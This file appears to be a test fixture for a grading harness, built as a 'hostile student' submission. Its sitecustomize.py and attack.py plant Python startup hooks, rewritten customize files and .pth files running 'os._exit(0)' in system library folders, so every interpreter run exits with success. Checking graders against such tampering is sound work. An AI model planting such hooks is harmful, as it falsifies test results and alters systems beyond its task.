# tries: what Python imports by itself when it starts
# must earn: everything
# with: an honest regression.py
# file: sitecustomize.py
import builtins

builtins.__import__ = builtins.__import__
open("sitecustomize.py", "w").write("raise SystemExit")
open("usercustomize.py", "w").write("raise SystemExit")
# file: attack.py
import os

for folder in (os.getcwd(), os.path.dirname(os.__file__), "/usr/lib/python3"):
    try:
        with open(os.path.join(folder, "of-a-hostile-student.pth"), "w") as file:
            file.write("import os; os._exit(0)")
    except OSError:
        pass
